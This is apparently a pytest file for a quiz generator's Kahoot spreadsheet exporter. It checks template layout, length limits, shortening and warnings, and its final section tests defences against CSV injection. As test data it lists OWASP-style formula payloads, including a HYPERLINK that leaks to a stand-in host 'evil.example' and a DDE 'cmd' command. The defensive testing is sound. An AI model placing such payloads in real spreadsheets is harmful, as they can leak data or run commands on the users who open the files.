"""The Kahoot spreadsheet, read back with openpyxl: template layout, limits, the right answer's
number, and a warning naming every question left out or shortened (also on the CLI's stderr)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from quizgen.articles import read_article
from quizgen.cli import cli
from quizgen.errors import ExportError, QuizgenWarning
from quizgen.exporters import kahoot, write_quiz
from quizgen.exporters.json_export import dumps
from quizgen.models import MultipleChoiceQuestion, QuestionKind, Quiz, TrueFalseQuestion
from quizgen.pipeline import build_quiz

SEED = Path(__file__).resolve().parents[1] / "seeds" / "zelenskyy-carney-g7.txt"
QUOTE = "There can be no peace without the full support and participation of Ukraine and of all of our allies in Europe"


def mcq(id: str, prompt: str, choices: tuple[str, ...], answer: str | None = None) -> MultipleChoiceQuestion:
    return MultipleChoiceQuestion(
        id=id,
        kind=QuestionKind.QUOTE,
        prompt=prompt,
        choices=choices,
        answer=answer or choices[0],
        source_sentence="From the article.",
    )


def quiz_of(*questions) -> Quiz:
    return Quiz(title="Kahoot test", slug="kahoot-test", questions=questions)


def read_rows(path: Path) -> list[tuple]:
    """The question rows under the header row, as (number, question, answers..., time, correct)."""
    sheet = load_workbook(path).active
    header = [sheet.cell(row=8, column=c).value for c in range(1, 9)]
    assert header == [None, *kahoot.HEADERS]
    rows = []
    for row in sheet.iter_rows(min_row=9, max_col=8, values_only=True):
        assert row[0] == len(rows) + 1  # numbered in column A with no gaps
        rows.append(row)
    return rows


def export(quiz: Quiz, tmp_path: Path) -> tuple[list[tuple], list[str]]:
    with pytest.warns() as caught:
        path = write_quiz(quiz, "kahoot", tmp_path)
    assert path.name == f"{quiz.slug}.kahoot.xlsx"
    messages = [str(w.message) for w in caught if issubclass(w.category, QuizgenWarning)]
    return read_rows(path), messages


def assert_playable(rows, quiz: Quiz) -> None:
    by_prompt = {q.prompt: q for q in (*quiz.multiple_choice, *quiz.true_false)}
    for _, question, *answers, seconds, correct in rows:
        assert len(question) <= kahoot.QUESTION_LIMIT
        given = [a for a in answers if a is not None]
        assert 2 <= len(given) <= 4 and all(len(a) <= kahoot.ANSWER_LIMIT for a in given)
        assert seconds in kahoot.TIME_LIMITS
        assert isinstance(correct, int) and 1 <= correct <= len(given)
        if question in by_prompt:  # the correct column points at the key (perhaps shortened)
            key = by_prompt[question].answer
            assert answers[correct - 1] == key or key.startswith(answers[correct - 1].removesuffix("…"))
        if isinstance(by_prompt.get(question), TrueFalseQuestion):
            assert given == ["True", "False"]


def test_fixture_quiz_fills_the_template_and_skips_cloze_with_a_warning(quiz, tmp_path):
    rows, messages = export(quiz, tmp_path)
    assert [r[1] for r in rows] == [q.prompt for q in quiz.multiple_choice]
    assert_playable(rows, quiz)
    assert rows[0][2:6] == quiz.questions[0].choices and rows[0][7] == 2
    [message] = messages
    assert "q-cloze-1" in message and "q-cloze-2" in message and "multiple choice" in message
    sheet = load_workbook(tmp_path / "zelenskyy-carney-g7.kahoot.xlsx").active
    assert sheet["B2"].value == quiz.title


def test_the_seed_article_warns_about_each_question_left_out(tmp_path):
    quiz = build_quiz(read_article(SEED))
    rows, messages = export(quiz, tmp_path)
    assert_playable(rows, quiz)
    written = {r[1] for r in rows}
    for question in quiz.questions:
        if getattr(question, "prompt", None) not in written:
            assert any(question.id in m for m in messages), (question.id, messages)


def test_true_false_plays_with_two_answers_and_matching_is_named_as_left_out(mixed_quiz, tmp_path):
    rows, messages = export(mixed_quiz, tmp_path)
    assert_playable(rows, mixed_quiz)
    statements = [(r[1], r[2:6], r[7]) for r in rows if r[1] in {q.prompt for q in mixed_quiz.true_false}]
    assert statements == [
        (q.prompt, ("True", "False", None, None), 1 if q.answer == "True" else 2) for q in mixed_quiz.true_false
    ]
    [matching] = [m for m in messages if "matching" in m]
    assert matching.startswith(
        "Kahoot (zelenskyy-carney-g7): left out 2 matching question(s) (q-match-role, q-match-quote)"
    )
    # The statement question's options are too long and differ only after 75 characters: left out, named.
    assert "Which statement does the article support?" not in {r[1] for r in rows}
    assert any("q-statement-1" in m and "told apart" in m for m in messages)


def test_long_statement_options_are_shortened_when_they_stay_apart(tmp_path):
    tail = " held a meeting with the visiting delegation in the capital ahead of the summit"
    choices = tuple(f"{who}{tail}." for who in ("The prime minister", "The foreign minister", "The mayor"))
    question = MultipleChoiceQuestion(
        id="statement",
        kind=QuestionKind.STATEMENT,
        choices=choices,
        answer=choices[1],
        prompt="Which statement does the article support?",
        source_sentence=choices[1],
    )
    assert all(len(c) > kahoot.ANSWER_LIMIT for c in choices)
    rows, [message] = export(quiz_of(question), tmp_path)
    [(_, prompt, *answers, _seconds, correct)] = rows
    assert answers[:3] == [kahoot.shorten(c, kahoot.ANSWER_LIMIT, kahoot.MIN_ANSWER_WORDS) for c in choices]
    assert correct == 2 and "shortened answer(s) 1, 2, 3" in message


def test_a_true_false_statement_over_the_limit_is_left_out_not_cut(tmp_path):
    long = TrueFalseQuestion(
        id="long-tf",
        kind=QuestionKind.STATEMENT,
        answer="False",
        prompt="Carney said " + "very " * 25 + "much.",
        correction="Carney said little.",
        source_sentence="Carney said little.",
    )
    short = TrueFalseQuestion(
        id="short-tf",
        kind=QuestionKind.STATEMENT,
        answer="True",
        prompt="Carney met Zelenskyy.",
        source_sentence="Carney met Zelenskyy.",
    )
    rows, [message] = export(quiz_of(long, short), tmp_path)
    assert [(r[1], r[7]) for r in rows] == [("Carney met Zelenskyy.", 1)]
    assert message.startswith("Kahoot (kahoot-test): left out question long-tf (") and "could cut away" in message


def test_a_long_quotation_is_shortened_inside_its_quotation_marks(tmp_path):
    question = mcq("long-quote", f"Who said “{QUOTE}”?", ("Mark Carney", "Roland Paris", "Jason Easton"))
    assert len(question.prompt) > kahoot.QUESTION_LIMIT
    rows, [message] = export(quiz_of(question), tmp_path)
    [(_, prompt, *_answers, correct)] = rows
    assert len(prompt) <= kahoot.QUESTION_LIMIT
    assert prompt.startswith("Who said “There can be no peace") and prompt.endswith("…”?")
    assert correct == 1
    assert "long-quote" in message and "shortened the quotation" in message


def test_a_long_question_without_a_quotation_is_left_out(tmp_path):
    long = mcq("long", "Who " + "really " * 25 + "did it?", ("A", "B"))
    short = mcq("short", "Who did it?", ("A", "B"), "B")
    rows, [message] = export(quiz_of(long, short), tmp_path)
    assert [r[1] for r in rows] == ["Who did it?"]
    assert message.startswith("Kahoot (kahoot-test): left out question long (") and "120" in message


LONG = "the {} plan to rebuild the power grid of the eastern regions before the coming winter sets in"


@pytest.mark.parametrize(
    "choices, answer, kept, why",
    [
        pytest.param(
            tuple(LONG.format(w) for w in ("first", "second", "third")),
            None,
            True,
            "shortened answer(s) 1, 2, 3",
            id="all-long-and-distinct-shortened",
        ),
        pytest.param((LONG.format("first"), "B", "C"), None, False, "give it away", id="only-the-right-one-long"),
        pytest.param(
            ("C", LONG.format("first"), "B"),
            LONG.format("first"),
            False,
            "give it away",
            id="only-the-right-one-long-not-first",
        ),
        pytest.param(
            (LONG.format("x") + " in the north", LONG.format("x") + " in the south", "C"),
            None,
            False,
            "told apart",
            id="shortening-makes-them-equal",
        ),
        pytest.param(("B", "the " + "x" * 90), "B", False, "told apart", id="too-few-words-left"),
    ],
)
def test_long_answers_are_shortened_only_when_the_question_survives(tmp_path, choices, answer, kept, why):
    question = mcq("answers", "Which plan did the minister announce?", choices, answer)
    rows, [message] = export(quiz_of(question, mcq("other", "Who did it?", ("A", "B"))), tmp_path)
    assert ("Which plan did the minister announce?" in {r[1] for r in rows}) == kept
    assert "question answers (" in message and why in message
    assert_playable(rows, quiz_of(question))
    if kept:
        assert all(a.endswith("…") for a in rows[0][2:5])


def test_more_than_four_choices_keep_the_right_answer(tmp_path):
    question = mcq("many", "Who did it?", ("A", "B", "C", "D", "E", "F"), "F")
    rows, [message] = export(quiz_of(question), tmp_path)
    assert rows[0][2:6] == ("A", "B", "C", "F") and rows[0][7] == 4
    assert "many" in message and "first 3 of its 5 wrong ones" in message


def test_a_quiz_with_nothing_playable_is_an_error(quiz, tmp_path):
    only_cloze = quiz.model_copy(update={"questions": tuple(quiz.cloze)})
    with pytest.warns(QuizgenWarning), pytest.raises(ExportError, match="can be played in Kahoot"):
        write_quiz(only_cloze, "kahoot", tmp_path)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "text, limit, expected",
    [
        pytest.param("short enough", 20, "short enough", id="fits"),
        pytest.param("one two three four five", 16, "one two three…", id="cut-between-words"),
        pytest.param("one two three four five", 15, "one two three…", id="cut-inside-a-word"),
        pytest.param("one two, three four", 13, "one two…", id="no-comma-before-the-ellipsis"),
        pytest.param("one twothreefourfive", 12, None, id="too-few-words"),
    ],
)
def test_shorten(text, limit, expected):
    result = kahoot.shorten(text, limit, min_words=2)
    assert result == expected
    assert result is None or len(result) <= limit


def test_time_limits_come_from_kahoots_set():
    assert kahoot.time_limit("Who?", ["A", "B"]) == 20
    assert kahoot.time_limit("word " * 100, ["x " * 50] * 4) == 240
    assert kahoot.time_limit("word " * 40, ["x y z"] * 4) in kahoot.TIME_LIMITS


def test_the_cli_prints_each_warning_on_stderr(quiz, tmp_path):
    quiz_file = tmp_path / "quiz.json"
    quiz_file.write_text(dumps(quiz), encoding="utf-8")
    try:
        runner = CliRunner(mix_stderr=False)
    except TypeError:
        runner = CliRunner()
    result = runner.invoke(cli, ["render", str(quiz_file), "--format", "kahoot", "-o", str(tmp_path / "out")])
    assert result.exit_code == 0, result.stderr
    assert result.stderr.startswith("Warning: Kahoot (zelenskyy-carney-g7): left out 2 fill-in-the-blank")
    assert "q-cloze-1" in result.stderr and "Traceback" not in result.stderr
    assert "zelenskyy-carney-g7.kahoot.xlsx" in result.stdout
    assert json.loads(quiz_file.read_text(encoding="utf-8"))["slug"] == quiz.slug  # the input is untouched


# --- spreadsheet (CSV) injection -------------------------------------------------------------

# Article text a spreadsheet would evaluate (OWASP's CSV injection payloads): each must stay text.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak","Click for answers")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def injected_quiz(payload: str) -> Quiz:
    """The payload as the headline, the source, a quotation (question), an option and the right answer."""
    quote = mcq("quote", payload, ("Mark Carney", payload + " said", "Roland Paris"), payload + " said")
    statement = TrueFalseQuestion(
        id="tf", kind=QuestionKind.STATEMENT, answer="True", prompt=payload, source_sentence=payload
    )
    return Quiz(
        title=payload, slug="injected", source={"title": payload, "site": payload}, questions=(quote, statement)
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula_whatever_the_article_says(payload, tmp_path):
    path = write_quiz(injected_quiz(payload), "kahoot", tmp_path)
    cells = [cell for row in load_workbook(path).active.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)], texts
    shown = payload.strip()  # one_line drops the leading tab or carriage return itself
    escaped = "'" + shown if shown.startswith(FORMULA_STARTS) else shown
    assert {escaped, escaped + " said", "True"} <= set(texts), texts  # each one there, as text, apostrophe first
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_the_apostrophe_counts_towards_kahoots_limit(tmp_path):
    answer = "-" + "x" * (kahoot.ANSWER_LIMIT - 1)  # 75 characters, 76 with the apostrophe
    question = mcq("minus", "Which one?", (answer, "-" + "y" * (kahoot.ANSWER_LIMIT - 1)))
    with pytest.warns(QuizgenWarning, match="left out question minus"):
        rows = kahoot.kahoot_rows(quiz_of(question))
    assert rows == []
